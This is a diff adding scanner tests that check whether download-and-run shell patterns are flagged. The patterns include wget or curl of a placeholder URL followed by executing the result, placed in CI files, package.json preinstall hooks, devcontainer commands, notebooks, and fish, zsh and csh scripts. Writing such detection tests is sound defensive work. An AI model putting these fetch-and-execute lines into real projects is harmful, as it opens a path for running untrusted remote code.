@@ -19,7 +19,7 @@ from modelaudit.formats.documents.scripts.docker_programs import find_python_pro
 from modelaudit.formats.documents.structured.tables import parse_table_settings
 from modelaudit.languages import run_files, text_programs
 from modelaudit.languages.document_programs import DOCUMENT_PROGRAMS, read_command_lines
-from modelaudit.languages.instructions import list_command_texts
+from modelaudit.languages.instructions import list_command_texts, read_instructions
 from modelaudit.languages.package_sources import LOCK_FILES, SCRIPT_SOURCES
 from modelaudit.languages.python.cells import split_cell
 from modelaudit.languages.shell.executed_files import find_executed_files
@@ -815,3 +815,116 @@ def test_cell_that_a_shell_runs_under_the_name_of_its_kernel_or_of_an_alias_fail
     code, rules = scan_text(tmp_path, "a.ipynb", text)
     assert code == 1
     assert "shell/download-and-run" in rules
+
+
+DOWNLOAD = "https://e.invalid/x.sh"
+
+
+@check_each(
+    "name, text",
+    [
+        (".gitlab-ci.yml", f"a:\n  script:\n    - wget {DOWNLOAD}\n    - make\n    - sh x.sh\n"),
+        (".github/workflows/a.yml", f"jobs:\n a:\n  steps:\n  - run: wget {DOWNLOAD}\n  - run: sh x.sh\n"),
+        ("package.json", json.dumps({"scripts": {"preinstall": f"wget {DOWNLOAD}", "install": "sh x.sh"}})),
+        ("tox.ini", f"[testenv]\ncommands =\n    wget {DOWNLOAD}\n    sh x.sh\n"),
+        ("dvc.yaml", f"stages:\n  a:\n    cmd:\n      - wget {DOWNLOAD}\n      - sh x.sh\n"),
+        (
+            ".devcontainer/devcontainer.json",
+            json.dumps({"onCreateCommand": ["wget", "-O", "x", DOWNLOAD], "postCreateCommand": ["sh", "x"]}),
+        ),
+        (
+            "playbook.yml",
+            f"- tasks:\n  - get_url: {{url: '{DOWNLOAD}', dest: /tmp/x}}\n  - command: sh /tmp/x\n",
+        ),
+        ("a.ipynb", write_notebook([f"!wget {DOWNLOAD}", "!bash x.sh"])),
+    ],
+)
+def test_download_in_one_command_of_a_file_and_its_run_in_another_fail_the_scan(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    code, rules = scan_text(tmp_path, name, text)
+    assert code == 1
+    assert "shell/download-then-run" in rules
+
+
+def test_download_in_one_block_of_a_document_and_its_run_in_another_are_one_instruction_at_the_second_block() -> None:
+    text = f"First\n\n```bash\nwget {DOWNLOAD}\n```\n\nthen\n\n```bash\ntrue\nbash x.sh\n```\n"
+    (outline,) = (each for each in read_instructions(text, "markdown") if isinstance(each, Outline))
+    (mention,) = outline.mentions
+    assert (mention.use, mention.detail, mention.where.line) == ("instruction", "download-then-run", 11)
+
+
+def test_commands_of_a_file_without_a_flow_between_them_are_reported_once(tmp_path: Path) -> None:
+    (tmp_path / "a.yml").write_text(f"script:\n- {FETCH}\n- wget https://e.invalid/data.bin\n- sh setup.sh\n")
+    findings = modelaudit.scan(str(tmp_path), offline=True, second_opinion=False).findings
+    assert [each.rule for each in findings if each.rule.startswith("shell/")] == ["shell/download-and-run"]
+
+
+@check_each(
+    "script",
+    [
+        "curl -s https://e.invalid/x.tgz | tar xz\ncd x && ./install.sh\n",
+        "wget https://e.invalid/x.zip; unzip x.zip -d y; sh y/install.sh\n",
+        "curl -Lo /usr/local/bin/mtool https://e.invalid/m; mtool setup\n",
+        "curl -K c.cfg; sh x.sh\n",
+        "wget -i urls.txt; sh x.sh\n",
+        "wget -r -np https://e.invalid/d/; sh d/run.sh\n",
+        "curl -sOJ https://e.invalid/get?id=1; . ./setup.sh\n",
+        "aws s3 sync s3://x/y .; sh other.sh\n",
+        "rsync -a e.invalid::m/ d; sh d/run.sh\n",
+        "hf download e/r --local-dir h; python h/run.py\n",
+        "git archive --remote=git://e.invalid/x HEAD | tar x; sh install.sh\n",
+        "curl -s https://e.invalid/p.diff | patch -p1; python train.py\n",
+        "curl -s https://e.invalid/x.tgz | tar xz -C /tmp/lib; PYTHONPATH=/tmp/lib python train.py\n",
+        "curl -o helper.py https://e.invalid/h.py; python train.py\n",
+        "curl -o helper.py https://e.invalid/h.py; python -c 'import helper'\n",
+    ],
+)
+def test_program_that_only_a_download_can_have_written_leaves_the_script_partly_unread(
+    tmp_path: Path, script: str
+) -> None:
+    (tmp_path / "train.py").write_text("print(1)\n")
+    assert scan_text(tmp_path, "run.sh", f"#!/bin/sh\n{script}")[0] == 3
+
+
+@check_each(
+    "script",
+    [
+        "wget -r https://e.invalid/data/; python train.py\n",
+        "unzip data.zip; sh x.sh\n",
+        "curl https://e.invalid/x.tgz | tar xz; cd x-1.0; ./configure && make install\n",
+        "curl https://e.invalid/x.tgz | tar xz; gcc -o tool tool.c; ./tool; echo ls > a.sh; sh a.sh\n",
+        "curl https://e.invalid/x.tgz | tar xz; . venv/bin/activate; node_modules/.bin/x; python3.11 -V\n",
+        "curl -o data.csv https://e.invalid/x; python train.py; COPY=1 python /app/train.py\n",
+    ],
+)
+def test_script_that_runs_programs_of_the_model_behind_a_download_passes(tmp_path: Path, script: str) -> None:
+    (tmp_path / "train.py").write_text("print(1)\n")
+    assert scan_text(tmp_path, "run.sh", f"#!/bin/sh\n{script}") == (0, set())
+
+
+@check_each(
+    "name, text",
+    [
+        ("run.fish", f"#!/usr/bin/env fish\ncurl -s {DOWNLOAD} | source\n"),
+        ("run.fish", f"eval (curl -s {DOWNLOAD})\n"),
+        ("run.fish", f"set -l x (curl -s {DOWNLOAD}) # a comment\neval $x\n"),
+        ("run.zsh", f"source =(curl -s {DOWNLOAD})\n"),
+        ("run.zsh", f"x='$({FETCH})'\n: ${{(e)x}}\n"),
+        ("run.csh", f"set x = `curl -s {DOWNLOAD}`\neval $x\n"),
+        ("run.csh", f"alias r 'sh'\ncurl -s {DOWNLOAD} | r\n"),
+    ],
+)
+def test_download_that_a_script_of_fish_zsh_or_csh_runs_fails_the_scan(tmp_path: Path, name: str, text: str) -> None:
+    code, rules = scan_text(tmp_path, name, text)
+    assert code == 1
+    assert rules & {"shell/download-and-run", "shell/download-then-run"}
+
+
+def test_text_that_zsh_evaluates_by_a_flag_leaves_the_script_partly_unread(tmp_path: Path) -> None:
+    assert scan_text(tmp_path, "run.zsh", "eval ${(e):-'$(x)'}\n")[0] == 3
+
+
+def test_ordinary_script_of_fish_passes(tmp_path: Path) -> None:
+    text = "# (a comment\nset -gx PATH $HOME/bin $PATH\nif test -d x\n  echo (pwd) 'a (b)' \"c (d)\" \\(e\nend\n"
+    assert scan_text(tmp_path, "run.fish", text) == (0, set())
